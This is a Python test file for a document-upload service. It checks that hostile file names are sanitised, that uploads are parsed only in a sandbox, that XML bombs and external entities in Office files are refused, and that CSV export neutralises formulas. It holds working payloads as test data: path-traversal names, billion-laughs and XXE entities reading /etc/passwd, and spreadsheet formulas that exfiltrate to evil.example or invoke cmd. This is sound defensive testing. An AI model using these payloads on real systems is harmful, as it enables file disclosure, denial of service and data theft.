"""Hostile uploads past the gate: names that look like paths or options, XML bombs and external
entities in Office files, checks that crash or hang, formulas in the CSV export.

The gate itself (401/411/413/415 before the body is read) is tests/unit/test_upload_guard.py.
"""

from __future__ import annotations

import csv
import http.server
import io
import os
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pptx
import pymupdf
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from services.domain import Card, ExtractionEnded
from services.errors import CorruptFile, InputRejected, PasswordProtected
from services.events.models import DocumentUploaded
from services.extraction import Sandbox, check_isolated, check_upload, extract_isolated, isolated
from services.extraction.docx import read_docx
from services.extraction.pptx import read_pptx
from services.handlers.export import deck_csv
from services.handlers.upload import safe_filename
from services.settings import LimitSettings, Settings
from tests.conftest import TOKEN
from tests.fakes import FakePublisher
from tests.unit.test_api import FakeHub

AUTH = {"Authorization": f"Bearer {TOKEN}"}
BOUNDARY = "deckstream-test-boundary"
TEXT = b"Osmosis moves water across a membrane, from dilute to concentrated solutions. " * 20


def _pdf_bytes(pages: int = 2) -> bytes:
    doc = pymupdf.open()
    for n in range(pages):
        doc.new_page().insert_text((72, 100), f"Osmosis moves water across membranes. Page {n + 1}.")
    data: bytes = doc.tobytes()
    return data


def _docx(path: Path) -> Path:
    document = docx.Document()
    document.add_paragraph("Glycolysis splits glucose into two pyruvate molecules.")
    document.save(str(path))
    return path


def _pptx(path: Path) -> Path:
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Glycolysis"
    deck.save(str(path))
    return path


def _replace_part(path: Path, name: str, data: bytes) -> Path:
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts[name] = data
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, content in parts.items():
            z.writestr(n, content)
    return path


def _part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read(name)


@pytest.fixture()
def api(tmp_path: Path) -> Iterator[tuple[TestClient, Settings, FakePublisher]]:
    settings = Settings.model_validate({"home": tmp_path, "api": {"token": TOKEN}})
    publisher = FakePublisher()
    with TestClient(create_app(settings, publisher=publisher, feed=FakeHub())) as client:
        yield client, settings, publisher


def post_file(client: TestClient, filename: str, data: bytes) -> Any:
    """A multipart upload written by hand: the name goes out byte for byte (httpx would escape a
    NUL or a quote)."""
    body = (
        (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )
    headers = {**AUTH, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    return client.post("/v1/documents", headers=headers, content=body)


# ── file names are data ──────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("raw", "stored"),
    [
        ("-x.pdf", "x.pdf"),
        ("--help", "help"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\notes.pdf", "notes.pdf"),
        ("..", "upload"),
        ("a\x00b.pdf", "ab.pdf"),
        ("syllabus\u202efdp.exe", "syllabusfdp.exe"),  # a right-to-left override hides the real extension
        ("line\nbreak\t.pdf", "line break.pdf"),
        (".bashrc", "upload.bashrc"),
        ("", "upload"),
        (None, "upload"),
        ("a" * 296 + ".pdf", "a" * 251 + ".pdf"),
        ("é" * 200 + ".docx", "é" * 125 + ".docx"),  # 255 bytes of UTF-8, cut between characters
    ],
)
def test_a_file_name_becomes_a_plain_display_name(raw: str | None, stored: str) -> None:
    name = safe_filename(raw)
    assert name == stored
    assert len(name.encode()) <= 255 and "/" not in name and "\\" not in name
    assert not name.startswith(("-", "."))


@pytest.mark.parametrize(
    ("raw", "stored", "data", "kind"),
    [
        ("-x.pdf", "x.pdf", _pdf_bytes(), "pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf", _pdf_bytes(), "pdf"),
        ("notes\x00.txt", "notes.txt", TEXT, "text"),
        ("n" * 296 + ".txt", "n" * 251 + ".txt", TEXT, "text"),
    ],
)
def test_hostile_names_are_accepted_stored_as_data_and_extract(
    api: tuple[TestClient, Settings, FakePublisher], raw: str, stored: str, data: bytes, kind: str
) -> None:
    client, settings, publisher = api
    r = post_file(client, raw, data)
    assert r.status_code == 202, r.text
    ((_, event),) = publisher.sent
    assert isinstance(event, DocumentUploaded)
    assert (event.filename, event.kind) == (stored, kind)
    status = client.get(f"/v1/documents/{event.document_id}", headers=AUTH).json()
    assert status["filename"] == stored
    kept = settings.blob_dir / event.blob_uri.removeprefix("blob://")
    assert kept.parent.parent == settings.blob_dir / "sha256"  # stored by hash, never by name
    assert [p for p in settings.blob_dir.rglob("*") if p.is_file()] == [kept]
    events = list(extract_isolated(kept, settings.limits, filename=event.filename))
    assert events[-1].status == "ok"  # type: ignore[union-attr]


def test_a_name_starting_with_a_dash_is_never_an_option_to_the_sandbox(tmp_path: Path) -> None:
    """Documents uploaded before names were cleaned still carry theirs: the child reads them as
    data (``--filename=-x.pdf``), not as an option."""
    path = tmp_path / "blob"
    path.write_bytes(_pdf_bytes(3))
    for name in ("-x.pdf", "--tables", "--", "../../etc/passwd.pdf"):
        events = list(extract_isolated(path, LimitSettings(), filename=name))
        assert events[-1] == ExtractionEnded("ok", 3), name
        assert check_isolated(path, LimitSettings(), filename=name) == "pdf"


# ── the upload check runs in the sandbox ─────────────────────────────────────────────────────


def test_the_api_process_never_parses_an_upload(
    api: tuple[TestClient, Settings, FakePublisher], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Any PDF or zip parser called in this process fails the test; the uploads are still
    checked (in the sandbox child) and accepted with the right kind."""

    files = {
        "book.pdf": _pdf_bytes(),
        "x.docx": _docx(tmp_path / "x.docx").read_bytes(),
        "deck.pptx": _pptx(tmp_path / "deck.pptx").read_bytes(),
    }

    def parsed_here(*args: object, **kwargs: object) -> None:
        raise AssertionError("a user's file was parsed in the API process")

    monkeypatch.setattr(pymupdf, "open", parsed_here)
    monkeypatch.setattr(pymupdf, "Document", parsed_here)
    monkeypatch.setattr(zipfile, "ZipFile", parsed_here)
    client, _, publisher = api
    for name, data in files.items():
        assert client.post("/v1/documents", headers=AUTH, files={"file": (name, data)}).status_code == 202
    assert [e.kind for _, e in publisher.sent] == ["pdf", "docx", "pptx"]  # type: ignore[attr-defined]


def test_encrypted_and_damaged_pdfs_are_still_refused_from_the_sandbox(
    api: tuple[TestClient, Settings, FakePublisher],
) -> None:
    client, settings, publisher = api
    doc = pymupdf.open(stream=_pdf_bytes())
    locked = doc.tobytes(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="secret", owner_pw="owner")
    r = client.post("/v1/documents", headers=AUTH, files={"file": ("locked.pdf", locked)})
    assert (r.status_code, r.json()["detail"]) == (422, "password protected")
    assert r.json()["type"].endswith("/password-protected")
    r = client.post("/v1/documents", headers=AUTH, files={"file": ("cut.pdf", b"%PDF-1.7\n1 0 obj\n<<")})
    assert r.status_code == 422 and "damaged" in r.json()["detail"]
    assert publisher.sent == [] and list((settings.blob_dir / "tmp").iterdir()) == []


def test_a_check_that_crashes_refuses_the_file_and_the_api_carries_on(
    api: tuple[TestClient, Settings, FakePublisher], monkeypatch: pytest.MonkeyPatch
) -> None:
    client, _, publisher = api
    real = isolated._PRELUDE
    crashing = "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)  # limits: {mem} {cpu} {warm}\n"
    monkeypatch.setattr(isolated, "_PRELUDE", crashing)
    parts = client.app.state.deckstream  # type: ignore[attr-defined]
    parts.upload.sandbox.close()  # its spare was started with the real prelude
    parts.upload.sandbox = Sandbox(parts.settings.limits)
    r = client.post("/v1/documents", headers=AUTH, files={"file": ("crash.pdf", _pdf_bytes())})
    assert r.status_code == 422
    assert r.json()["detail"] == "the file could not be checked: extraction crashed (SIGSEGV)"
    monkeypatch.setattr(isolated, "_PRELUDE", real)
    r = client.post("/v1/documents", headers=AUTH, files={"file": ("fine.pdf", _pdf_bytes())})
    assert r.status_code == 202 and len(publisher.sent) == 1


def test_a_check_that_hangs_is_killed_at_its_deadline(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hangs = "import time\ntime.sleep(60)  # limits: {mem} {cpu} {warm}\n"
    monkeypatch.setattr(isolated, "_PRELUDE", hangs)
    path = tmp_path / "doc.pdf"
    path.write_bytes(_pdf_bytes())
    started = time.monotonic()
    with pytest.raises(InputRejected, match=r"^the file could not be checked: timed out after 0.05 s$"):
        check_isolated(path, LimitSettings(check_timeout_s=0.05), filename="doc.pdf")
    assert time.monotonic() - started < 5


def test_the_spare_checks_the_next_upload_and_a_new_one_waits(tmp_path: Path) -> None:
    path = tmp_path / "doc.pdf"
    path.write_bytes(_pdf_bytes())
    box = Sandbox(LimitSettings())
    try:
        box.prepare()
        spare = box.spare_pid
        assert spare is not None and box.wait_ready()
        assert box.check(path, filename="doc.pdf") == "pdf"
        assert box.spare_pid not in (None, spare)
        with pytest.raises(PasswordProtected):
            box.check(_encrypted_docx(tmp_path / "locked.docx"), filename="locked.docx")
    finally:
        box.close()
    assert box.spare_pid is None


def _encrypted_docx(path: Path) -> Path:
    from services.extraction.sniff import OLE_MAGIC

    path.write_bytes(OLE_MAGIC + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 512)
    return path


# ── XML: DTDs refused through defusedxml, and the libraries' parsers as a second line ─────────


def _fetch_server() -> tuple[http.server.ThreadingHTTPServer, list[str]]:
    """A local HTTP server that records every request (an external entity would fetch it)."""
    fetched: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            fetched.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"FETCHED-BY-XXE")

        def log_message(self, *args: object) -> None:
            return None

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, fetched


LAUGHS = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def _hostile(xml: bytes, dtd: str, text: bytes, *, replace: bytes) -> bytes:
    """The part with a DTD after its XML declaration and ``text`` in place of ``replace``."""
    body = xml.split(b"?>", 1)[1].replace(replace, text)
    return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + dtd.encode() + body


@pytest.fixture()
def fetches() -> Iterator[tuple[int, list[str]]]:
    server, fetched = _fetch_server()
    yield server.server_address[1], fetched
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("kind", ["docx", "pptx"])
def test_billion_laughs_and_external_entities_are_refused_unexpanded_and_unfetched(
    tmp_path: Path, fetches: tuple[int, list[str]], kind: str
) -> None:
    port, fetched = fetches
    dtd = (
        f'<!DOCTYPE root [{LAUGHS}<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/xxe">'
        '<!ENTITY pw SYSTEM "file:///etc/passwd">]>'
    )
    if kind == "docx":
        path, part, word = _docx(tmp_path / "bomb.docx"), "word/document.xml", b"Glycolysis"
    else:
        path, part, word = _pptx(tmp_path / "bomb.pptx"), "ppt/slides/slide1.xml", b"Glycolysis"
    _replace_part(path, part, _hostile(_part(path, part), dtd, b"&lol9; &xxe; &pw;", replace=word))
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(CorruptFile, match=rf"part {part} declares a DTD \(<!DOCTYPE>\)"):
        check_upload(path, LimitSettings())
    elapsed, (_, peak) = time.perf_counter() - started, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 1.0 and peak < 8 * 1024 * 1024  # 10^9 "lol"s were never expanded
    with pytest.raises(CorruptFile, match="DOCTYPE"):
        check_isolated(path, LimitSettings(), filename=path.name)
    # Past our check (it is the first line), python-docx/pptx's own lxml parser
    # (resolve_entities=False, no_network) expands and fetches nothing either.
    reader = read_docx if kind == "docx" else read_pptx
    try:
        text = " ".join(getattr(e, "text", "") for e in reader(path))
    except CorruptFile as e:  # libxml2's amplification cap: "Maximum entity amplification ..."
        text = str(e)
    assert "lollol" not in text and "FETCHED" not in text and "root:" not in text
    assert fetched == []


def test_an_external_entity_alone_is_refused_and_never_fetched_through_the_api(
    api: tuple[TestClient, Settings, FakePublisher], tmp_path: Path, fetches: tuple[int, list[str]]
) -> None:
    client, settings, publisher = api
    port, fetched = fetches
    path = _docx(tmp_path / "xxe.docx")
    dtd = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/xxe">]>'
    _replace_part(
        path,
        "word/document.xml",
        _hostile(_part(path, "word/document.xml"), dtd, b"&xxe;", replace=b"Glycolysis"),
    )
    r = client.post("/v1/documents", headers=AUTH, files={"file": ("xxe.docx", path.read_bytes())})
    assert r.status_code == 422 and "DOCTYPE" in r.json()["detail"]
    assert fetched == [] and publisher.sent == [] and list((settings.blob_dir / "tmp").iterdir()) == []


@pytest.mark.parametrize(
    ("encoding", "reason"),
    [
        ("utf-16-be", "declares a DTD"),  # with its BOM: FE FF
        ("utf-16-le", "declares a DTD"),
        ("utf-32", "is not readable XML"),  # OOXML is UTF-8 or UTF-16; lxml could read this one
    ],
)
def test_a_dtd_in_another_encoding_is_refused_too(tmp_path: Path, encoding: str, reason: str) -> None:
    path = _docx(tmp_path / "enc.docx")
    xml = _part(path, "word/document.xml").decode()
    dtd = '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    evil = f'<?xml version="1.0" encoding="{encoding.upper()[:6]}"?>{dtd}' + xml.split("?>", 1)[1]
    bom = "\ufeff" if encoding != "utf-32" else ""  # Python's utf-32 codec writes its own BOM
    _replace_part(path, "word/document.xml", (bom + evil).encode(encoding))
    with pytest.raises(CorruptFile, match=reason):
        check_upload(path, LimitSettings())


def test_ordinary_office_files_pass_the_xml_check(tmp_path: Path) -> None:
    assert check_upload(_docx(tmp_path / "a.docx"), LimitSettings()) == "docx"
    assert check_upload(_pptx(tmp_path / "a.pptx"), LimitSettings()) == "pptx"
    svg_like = b"<?xml version='1.0'?>\n<!-- a comment --><?pi x?>\n<root/>"
    path = _docx(tmp_path / "b.docx")
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("customXml/item9.xml", svg_like)
        z.writestr("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + os.urandom(512))
    assert check_upload(path, LimitSettings()) == "docx"


# ── CSV export: cells are never formulas ─────────────────────────────────────────────────────


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    def card(front: str, back: str, file: str = "notes.pdf", section: tuple[str, ...] = ()) -> Card:
        return Card("c1", "basic", front, back, file, 1, "1", section, 0, "v1")

    cards = [
        card('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2"),
        card("-2+3", "@SUM(A1:A2)"),
        card("\t=1+1", "\r=1+1"),
        card("What is osmosis?", "Water moving across a membrane.", file="=cmd|' /C calc'!A0.pdf"),
        card("Why?", "Because.", section=("=Chapter 1", "Cells")),
    ]
    rows = list(csv.DictReader(io.StringIO(deck_csv(cards))))
    assert [(r["front"], r["back"]) for r in rows[:3]] == [
        ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+1+2"),
        ("'-2+3", "'@SUM(A1:A2)"),
        ("'\t=1+1", "'\r=1+1"),
    ]
    assert rows[3]["file"] == "'=cmd|' /C calc'!A0.pdf"
    assert rows[4]["section"] == "'=Chapter 1 > Cells"
    assert (rows[3]["front"], rows[3]["back"]) == ("What is osmosis?", "Water moving across a membrane.")
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())
